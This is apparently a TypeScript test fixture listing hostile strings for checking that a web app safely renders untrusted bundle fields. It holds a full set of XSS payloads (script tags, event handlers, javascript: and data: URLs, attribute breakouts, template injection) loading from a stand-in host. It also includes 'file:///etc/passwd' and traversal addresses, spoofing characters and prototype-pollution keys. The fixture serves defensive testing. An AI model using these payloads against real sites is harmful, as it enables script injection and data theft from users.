/*
 * Texts that a hostile bundle may put into any of its fields. What runs sets `ran` on the page's global; what
 * loads does so from hostile.invalid. Nothing of the kind may happen, wherever they are shown.
 */

const RUN = 'globalThis.ran=1'
const FROM = 'https://hostile.invalid'

const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src="${FROM}/a.js"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${FROM}/a.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="${FROM}/a.swf"></object>`,
  `<embed src="${FROM}/a.swf">`,
  `<video src="${FROM}/a.mp4" autoplay onerror=${RUN}></video>`,
  `<audio src="${FROM}/a.mp3" onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<form action="${FROM}"><button>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="${FROM}/">`,
  `<meta http-equiv="refresh" content="0;url=${FROM}">`,
  `<link rel="stylesheet" href="${FROM}/a.css">`,
  `<style>@import "${FROM}/a.css"; .card{position:fixed;inset:0}</style>`,
  `<div style="position:fixed;inset:0;background:url(${FROM}/a.png)">x</div>`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<slot name="x"></slot>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}" x="`,
  `\`\${${RUN}}\``,
  `{{constructor.constructor("${RUN}")()}}`,
  `</style><script>${RUN}</script>`,
  `</title></textarea></script><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#x3C;img src=x onerror=${RUN}&#x3E;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnJhbj0xPC9zY3JpcHQ+`,
  `vbscript:${RUN}`,
  'blob:https://example.org/0',
  'file:///etc/passwd',
  'chrome://settings',
  'about:blank',
  'view-source:https://example.org',
  'https://user:secret@example.org/',
  'https://example.org@hostile.invalid/',
  '//hostile.invalid/',
  'https://exаmple.org/',
  'https://[::1]:99999/',
]

const CHARACTERS = [
  '\u202Egnp.exe',
  '\u2066\u2067\u2068\u2069\u202A\u202B\u202C\u202D',
  'a\u200Bb\u2060c\uFEFFd',
  'nul\u0000nul\u0001\u0008\u001B[31m',
  `${'Z\u0351\u0352\u0353\u0354\u0355'.repeat(60)}`,
  'W'.repeat(65_536),
  `${'سلام '.repeat(400)}`,
  '\uD800 lone \uDFFF',
  '\uFFFE\uFFFF\u{10FFFF}',
  '👩‍👩‍👧‍👦'.repeat(50),
  'line\nbreak\r\nand\ttab\u2028and\u2029paragraph',
  '﷽'.repeat(100),
  '\u3164\u115F\u1160',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '$1 $2 $3 $& $$',
  '%s %d %c',
  '%00%2e%2e%2f',
]

/** Ways to disguise a text, or to bury it. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => `\u202E${text}\u202C`,
  (text) => `x"'>${text}<"'`,
  (text) => `&lt;${text.replaceAll('"', '&quot;')}`,
  (text) => text.replaceAll('<', '<\u0000').replaceAll('script', 'scr\u0000ipt'),
]

const disguised = [...MARKUP, ...ADDRESSES].flatMap((text) => DISGUISES.map((disguise) => disguise(text)))

/** Every hostile text, each once. */
export const HOSTILE_TEXTS: readonly string[] = [...new Set([...disguised, ...CHARACTERS])]
